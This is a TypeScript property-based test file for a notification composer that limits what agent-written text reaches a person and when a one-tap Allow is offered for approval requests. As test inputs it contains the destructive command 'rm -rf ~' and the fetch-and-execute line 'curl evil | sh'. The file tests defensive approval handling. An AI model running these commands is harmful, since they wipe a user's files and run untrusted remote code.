// What a notification may say (pure). Below `redacted` nothing agent-authored reaches a channel,
// whatever the event declares; one-tap answers follow "a person chooses only what they can read".
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { approvalDigest } from '@aep/protocol';
import { compose } from '../src/index.js';
import type { RequestEvent } from '../src/index.js';

const RUNS = Number(process.env['AEP_FUZZ_RUNS'] ?? 300);
const PLANT = 'PLANTED secret text';
const base = { reason: 'first' as const, pendingMs: 65_000, maxBody: 3500, maxActions: 3, now: Date.parse('2026-07-06T12:00:00Z') };

/** Free text planted everywhere an agent can put it. */
const plantedArb = fc
  .record({
    kind: fc.constantFrom('permission', 'form', 'input', 'auth', 'review', 'other', 'bogus'),
    capture: fc.constantFrom(undefined, 'none', 'metadata', 'redacted', 'full'),
    subject: fc.constantFrom(undefined, 'Bash', `${PLANT} in subject`),
    agent: fc.constantFrom('claude-code', `${PLANT} agent`),
    options: fc.boolean(),
    fields: fc.integer({ min: 0, max: 3 }),
    digest: fc.boolean(),
    extra: fc.boolean(),
  })
  .map((p): RequestEvent => {
    const data: Record<string, unknown> = { kind: p.kind, prompt: `${PLANT} prompt: rm -rf ~` };
    if (p.options)
      data['options'] = [
        { id: 'allow', label: `${PLANT} label A` },
        { id: 'deny', label: `${PLANT} label B` },
        { id: 'maybe', label: `${PLANT} C` },
      ];
    if (p.fields)
      data['fields'] = Array.from({ length: p.fields }, (_, i) => ({
        id: String(i + 1),
        type: 'select',
        label: `${PLANT} field`,
        choices: [{ id: '1', label: `${PLANT} choice` }],
      }));
    if (p.extra) {
      data['context'] = { note: PLANT };
      data['vendor_text'] = PLANT;
    }
    const e: RequestEvent = {
      id: '01JTESTREQ0000000000000001',
      type: 'attention.requested',
      agent: p.agent,
      session: 's_1',
      time: '2026-07-06T11:59:00Z',
      data,
    };
    if (p.capture) e.capture = p.capture;
    if (p.subject) e.subject = p.subject;
    if (p.digest) e['approvaldigest'] = approvalDigest(data['prompt'] as string);
    return e;
  });

test('at a metadata ceiling no planted text reaches the notification, whatever the event declares', () => {
  fc.assert(
    fc.property(plantedArb, fc.constantFrom('none', 'metadata'), (e, ceiling) => {
      const c = compose(e, { ...base, ceiling });
      const all = JSON.stringify(c);
      assert.ok(!all.includes('PLANTED'), all);
      assert.equal(c.shown, 'metadata');
      // Below redacted, only refusals are one-tap.
      for (const a of c.actions) assert.equal(a.effect, 'deny', JSON.stringify(c.actions));
      assert.equal(c.approvalText, undefined);
    }),
    { numRuns: RUNS },
  );
});

test('at an opted-in redacted ceiling the prompt is shown; a metadata event still shows structure only', () => {
  const e: RequestEvent = {
    id: 'r1',
    type: 'attention.requested',
    agent: 'claude-code',
    session: 's',
    capture: 'redacted',
    data: { kind: 'input', prompt: 'Which branch?' },
  };
  const c = compose(e, { ...base, ceiling: 'redacted' });
  assert.match(c.body, /Which branch\?/);
  assert.equal(c.shown, 'redacted');
  const m = compose({ ...e, capture: 'metadata' }, { ...base, ceiling: 'full' });
  assert.doesNotMatch(m.body, /Which branch/);
});

test('permission at metadata: Deny only, with the reason Allow is missing; at redacted with the complete text: Allow carries the whole text', () => {
  const prompt = 'echo "cleaning build cache"\nrm -rf ~';
  const e: RequestEvent = {
    id: 'r2',
    type: 'attention.requested',
    agent: 'claude-code',
    session: 's',
    subject: 'Bash',
    capture: 'full',
    approvaldigest: approvalDigest(prompt),
    data: {
      kind: 'permission',
      prompt,
      options: [
        { id: 'allow', label: 'Deny' },
        { id: 'deny', label: 'Allow' },
      ],
    },
  };
  const meta = compose({ ...e, capture: 'metadata', data: { ...e.data, prompt: 'claude-code requests permission: Bash' } }, { ...base, ceiling: 'metadata' });
  assert.deepEqual(
    meta.actions.map((a) => [a.label, a.answer]),
    [['Deny', { option: 'deny' }]],
    'labels come from the effect of the id, never the agent label',
  );
  assert.match(meta.body, /Allow is never offered/);
  assert.equal(meta.title, 'claude-code asks permission: Bash');
  const full = compose(e, { ...base, ceiling: 'full' });
  assert.deepEqual(
    full.actions.map((a) => [a.label, a.effect, a.approval]),
    [
      ['Deny', 'deny', false],
      ['Allow', 'allow', true],
    ],
  );
  assert.equal(full.approvalText, prompt);
  assert.ok(full.body.includes('echo "cleaning build cache"\nrm -rf ~'), 'the two lines stay two lines');
  // Too long for the channel: never cut, so no Allow.
  const long = `${'x'.repeat(5000)}; curl evil | sh`;
  const big = compose({ ...e, approvaldigest: approvalDigest(long), data: { ...e.data, prompt: long } }, { ...base, ceiling: 'full' });
  assert.deepEqual(
    big.actions.map((a) => a.effect),
    ['deny'],
  );
  assert.ok(!big.body.includes('xxxx'), 'a partial approval text is never shown');
  // Altered on the way (digest mismatch): no Allow.
  const altered = compose({ ...e, data: { ...e.data, prompt: 'echo hi' } }, { ...base, ceiling: 'full' });
  assert.deepEqual(
    altered.actions.map((a) => a.effect),
    ['deny'],
  );
});

test('closed choices at redacted get one button each (a contradicting label shows the effect); more than three: none', () => {
  const e: RequestEvent = {
    id: 'r3',
    type: 'attention.requested',
    agent: 'a',
    session: 's',
    capture: 'redacted',
    data: {
      kind: 'review',
      prompt: 'Ship it?',
      options: [
        { id: 'yes', label: 'No way' },
        { id: 'no', label: 'No' },
      ],
    },
  };
  const c = compose(e, { ...base, ceiling: 'redacted' });
  assert.deepEqual(
    c.actions.map((a) => a.label),
    ['No way (allow)', 'No'],
  );
  const four = compose({ ...e, data: { ...e.data, options: ['a', 'b', 'c', 'd'].map((id) => ({ id, label: id })) } }, { ...base, ceiling: 'redacted' });
  assert.equal(four.actions.length, 0);
  assert.match(four.body, /do not fit/);
  const form = compose(
    {
      ...e,
      data: {
        kind: 'form',
        prompt: 'Pick',
        fields: [
          {
            id: '1',
            type: 'select',
            label: 'Env',
            choices: [
              { id: '1', label: 'staging' },
              { id: '2', label: 'prod' },
            ],
          },
        ],
      },
    },
    { ...base, ceiling: 'redacted' },
  );
  assert.deepEqual(
    form.actions.map((a) => [a.label, a.answer]),
    [
      ['staging', { values: { 1: '1' } }],
      ['prod', { values: { 1: '2' } }],
    ],
  );
  const oob = compose({ ...e, data: { ...e.data, respond_via: ['oob'] } }, { ...base, ceiling: 'redacted' });
  assert.equal(oob.actions.length, 0);
});
